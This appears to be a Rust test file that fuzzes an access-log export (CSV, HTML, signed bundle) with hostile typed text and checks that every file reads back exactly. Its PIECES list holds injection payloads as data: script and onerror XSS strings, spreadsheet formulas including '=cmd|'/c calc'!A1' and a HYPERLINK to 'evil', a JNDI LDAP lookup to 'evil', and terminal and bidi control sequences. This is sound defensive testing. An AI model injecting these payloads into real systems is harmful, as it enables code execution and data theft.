//! E8: what people type reaches the log of use as it was typed, and every file of it reads back exactly, by parsers that others
//! wrote: no name, purpose or criterion ends its cell, its line, its element or its text.

use std::cell::{Cell, RefCell};

use chrono::TimeDelta;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, CharacterTokens, EndTag, NullCharacterToken, StartTag, TagToken, Token, TokenSink,
    TokenSinkResult, Tokenizer, TokenizerOpts,
};
use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};
use serde_json::json;
use varsel_domain::EntryId;
use varsel_domain::access::{AccessEntry, UseKind};
use varsel_domain::authz::Scope;
use varsel_domain::organisation::Language;
use varsel_services::log::{self, Form, Inquiry};
use varsel_services::testing::{House, in_each_house};
use varsel_services::view::PageRequest;
use varsel_storage::access_log;
use varsel_storage::testing::{proved, seed};

/// Texts of one house; each entry carries four.
const TEXTS: usize = 10_000;

/// What means something to a terminal, a spreadsheet, a browser, a parser, or to whoever reads.
const PIECES: [&str; 56] = [
    "\r\n",
    "\n",
    "\r",
    "\0",
    "\t",
    "\u{b}",
    "\u{85}",
    "\u{2028}",
    "\u{1b}[2J",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "\u{7f}",
    "\u{202e}",
    "\u{2066}",
    "\u{2069}",
    "\u{200b}",
    "\u{feff}",
    "\u{ad}",
    "\"",
    "\"\"",
    "'",
    "''",
    "`",
    "\\",
    "\\\\",
    "\\u",
    "\\u202e",
    "\\u005cu",
    "\\x1b",
    "\",\"use\":\"heartbeat\"",
    "\"}\n{\"position\":0}",
    "</td><td>",
    "<script>alert(1)</script>",
    "<!--",
    "-->",
    "]]>",
    "<img src=x onerror=alert(1)>",
    "&amp;",
    "&#x27;",
    "&lt",
    "=HYPERLINK(\"http://evil\")",
    "=cmd|'/c calc'!A1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1",
    "'=1",
    ",",
    ";",
    "“",
    "”",
    "{{title}}",
    "${jndi:ldap://evil}",
    "\u{fffd}",
    "\u{ffff}",
    "🇩🇰",
];

/// A text as somebody might type it who wants the log to say something else.
fn hostile(chance: &mut StdRng) -> String {
    let mut text = String::new();
    for _ in 0..chance.random_range(1..7) {
        match chance.random_range(0..10_u8) {
            0..6 => text.push_str(PIECES[chance.random_range(0..PIECES.len())]),
            6..8 => text.push(chance.random()),
            8 => text.push_str("Karen Ærø"),
            _ => text.push_str(&"x".repeat(chance.random_range(1..60))),
        }
    }
    if chance.random_ratio(1, 500) { text.repeat(200) } else { text }
}

/// Entries whose name, function, criterion and request are hostile.
fn entries(house: &House, chance: &mut StdRng) -> Vec<AccessEntry> {
    let entry = |_| AccessEntry {
        id: EntryId(house.services.ids.next(house.now())),
        at: house.now(),
        person: None,
        name: hostile(chance),
        function: hostile(chance),
        use_kind: UseKind::Listed,
        incident: None,
        detail: json!({ "text": hostile(chance), "shown": 1 }),
        request_id: hostile(chance),
    };
    (0..TEXTS / 4).map(entry).collect()
}

fn asked() -> Inquiry {
    Inquiry { case: "2026-17".to_owned(), ..Inquiry::default() }
}

async fn file(house: &House, form: Form) -> Vec<u8> {
    let request = house.request("security-officer").await;
    log::export(&house.services, &request, &asked(), form, Language::En).await.unwrap()
}

/// What is shown of each entry: who, as what, what happened, in which request.
type Shown = [String; 4];

/// The same, from the pages and not from a file.
async fn shown(house: &House, entries: &[AccessEntry]) -> Vec<Shown> {
    let request = house.request("security-officer").await;
    let (mut sentences, mut after) = (Vec::new(), None);
    loop {
        let page = PageRequest { first: 100, after };
        let page = log::investigate(&house.services, &request, &asked(), page).await.unwrap();
        sentences.extend(page.rows.iter().map(|(_, it)| it.sentence.en.clone()));
        after = page.rows.last().map(|(cursor, _)| cursor.clone());
        if sentences.len() >= usize::try_from(page.total).unwrap() {
            break;
        }
    }
    let told = entries.iter().zip(sentences);
    told.map(|(it, sentence)| [it.name.clone(), it.function.clone(), sentence, it.request_id.clone()])
        .collect()
}

/// Reads `\u` and four digits back, as docs/log-interpretation.md says.
fn read(text: &str) -> String {
    let mut read = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("\\u") {
        read.push_str(before);
        let digits = after.get(..4).and_then(|digits| u32::from_str_radix(digits, 16).ok());
        let Some(character) = digits.and_then(char::from_u32) else { return format!("no escape: {text:?}") };
        read.push(character);
        rest = after.get(4..).unwrap_or_default();
    }
    read + rest
}

/// A cell without the quotation mark that stands before a formula.
fn without_mark(cell: &str) -> &str {
    let typed = cell.trim_start_matches('\'');
    let formula = typed.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
    cell.strip_prefix('\'').filter(|_| formula).unwrap_or(cell)
}

/// What a CSV file says, by a parser of RFC 4180; a line that could be a formula, or is more than one, counts as wrong.
fn read_csv(file: &str) -> Result<Vec<Shown>, String> {
    let mut reader = csv::ReaderBuilder::new().from_reader(file.trim_start_matches('\u{feff}').as_bytes());
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record.map_err(|error| error.to_string())?;
        if let Some(cell) =
            record.iter().find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']))
        {
            return Err(format!("a formula: {cell:?}"));
        }
        let cell = |at: usize| read(without_mark(record.get(at).unwrap_or_default()));
        rows.push([cell(2), cell(3), cell(7), cell(9)]);
    }
    if file.split_terminator('\n').count() == rows.len() + 1 {
        Ok(rows)
    } else {
        Err("a line too many".to_owned())
    }
}

/// Keeps what the tokenizer of browsers makes of a page: the cells of its table, and every tag.
#[derive(Default)]
struct Cells {
    open: Cell<bool>,
    rows: RefCell<Vec<Vec<String>>>,
    tags: RefCell<Vec<String>>,
}

impl TokenSink for Cells {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        let mut rows = self.rows.borrow_mut();
        match token {
            TagToken(tag) => {
                self.tags.borrow_mut().push(tag.name.to_string());
                match (tag.kind, &*tag.name) {
                    (StartTag, "tr") => rows.push(Vec::new()),
                    (StartTag, "td") => {
                        rows.last_mut().unwrap().push(String::new());
                        self.open.set(true);
                    }
                    (EndTag, "td") => self.open.set(false),
                    _ => {}
                }
            }
            CharacterTokens(text) if self.open.get() => {
                rows.last_mut().unwrap().last_mut().unwrap().push_str(&text);
            }
            NullCharacterToken => rows.push(vec!["a null character".to_owned()]),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// The tags of such a page.
const TAGS: [&str; 16] = [
    "html", "head", "meta", "title", "style", "body", "h1", "p", "table", "caption", "thead", "tr", "th",
    "tbody", "td", "ul",
];

/// Sentence and request of each row of a page.
fn read_html(file: &str) -> Result<Vec<[String; 2]>, String> {
    let tokenizer = Tokenizer::new(Cells::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(file));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    if let Some(tag) = tokenizer.sink.tags.borrow().iter().find(|tag| !TAGS.contains(&tag.as_str())) {
        return Err(format!("a tag of somebody's own: {tag}"));
    }
    let rows = tokenizer.sink.rows.borrow();
    let row = |row: &Vec<String>| match row.as_slice() {
        [_, _, sentence, _purpose, request] => Ok([read(sentence), read(request)]),
        other => Err(format!("a row of {} cells", other.len())),
    };
    rows.iter().skip(1).map(row).collect()
}

/// The first place in which the two differ.
fn difference<T: PartialEq + std::fmt::Debug>(
    expected: &[T],
    found: &Result<Vec<T>, String>,
) -> Option<String> {
    let found = match found {
        Ok(found) => found,
        Err(problem) => return Some(problem.clone()),
    };
    let differing = expected.iter().zip(found).find(|(expected, found)| expected != found);
    let other = differing.map(|(expected, found)| format!("{expected:?} became {found:?}"));
    other.or_else(|| {
        (expected.len() != found.len()).then(|| format!("{} became {}", expected.len(), found.len()))
    })
}

fn of_page(shown: &[Shown]) -> Vec<[String; 2]> {
    shown.iter().map(|[_, _, sentence, request]| [sentence.clone(), request.clone()]).collect()
}

/// The entries of a file of evidence, in the order of the log.
fn read_bundle(file: &[u8]) -> Result<Vec<AccessEntry>, String> {
    let mut texts = Vec::new();
    let opened = varsel_log::export::open(file, None).map_err(|error| error.to_string())?;
    opened.verify(&[], |entry| texts.push(entry.entry)).map_err(|error| error.to_string())?;
    texts.iter().map(|text| serde_json::from_str(text).map_err(|error| error.to_string())).collect()
}

/// A house whose log was fed with hostile texts.
async fn fed(house: &House) -> (Vec<AccessEntry>, Vec<Shown>) {
    let entries = entries(house, &mut StdRng::seed_from_u64(seed()));
    let tx = house.services.store.begin(&Scope::nothing()).await.unwrap();
    access_log::append(&tx, &*house.services.ids, &entries).await.unwrap();
    tx.commit().await.unwrap();
    house.advance(TimeDelta::seconds(1));
    let shown = shown(house, &entries).await;
    (entries, shown)
}

#[tokio::test]
async fn ten_thousand_hostile_texts_are_in_every_file_exactly() {
    in_each_house(async |house| {
        let (entries, shown) = fed(&house).await;
        assert_eq!(shown.len(), entries.len());
        assert_eq!(difference(&entries, &read_bundle(&file(&house, Form::Bundle).await)), None);
        let csv = String::from_utf8(file(&house, Form::Csv).await).unwrap();
        assert_eq!(difference(&shown, &read_csv(&csv)), None);
        let html = String::from_utf8(file(&house, Form::Html).await).unwrap();
        assert_eq!(difference(&of_page(&shown), &read_html(&html)), None);
        let harmful = |text: &str| text.trim_start_matches('\u{feff}').replace(['\r', '\n'], "");
        for text in [&csv, &html] {
            assert_eq!(harmful(text).find(varsel_services::printable::is_harmful), None);
        }
        let database = if house.services.store.is_shared() { "PostgreSQL" } else { "SQLite" };
        proved("E8", &format!("{database}: {TEXTS} texts in CSV, HTML and the signed file: 0 differ"));
    })
    .await;
}

#[tokio::test]
async fn a_file_without_one_of_its_escapes_is_noticed() {
    in_each_house(async |house| {
        let (_, shown) = fed(&house).await;
        let csv = String::from_utf8(file(&house, Form::Csv).await).unwrap();
        for (escaped, bare) in [("\"\"", "\""), ("\"'", "\""), ("\\u000d\\u000a", "\r\n"), ("\\u005c", "\\")]
        {
            let without = csv.replace(escaped, bare);
            assert!(without != csv && difference(&shown, &read_csv(&without)).is_some(), "{escaped}");
        }
        let (html, shown) = (String::from_utf8(file(&house, Form::Html).await).unwrap(), of_page(&shown));
        for (escaped, bare) in [("&lt;", "<"), ("&amp;", "&"), ("\\u0000", "\0"), ("\\u005c", "\\")] {
            let without = html.replace(escaped, bare);
            assert!(without != html && difference(&shown, &read_html(&without)).is_some(), "{escaped}");
        }
        let bundle = String::from_utf8(file(&house, Form::Bundle).await).unwrap();
        assert!(read_bundle(bundle.replacen("\\\\", "\\", 1).as_bytes()).is_err());
    })
    .await;
}
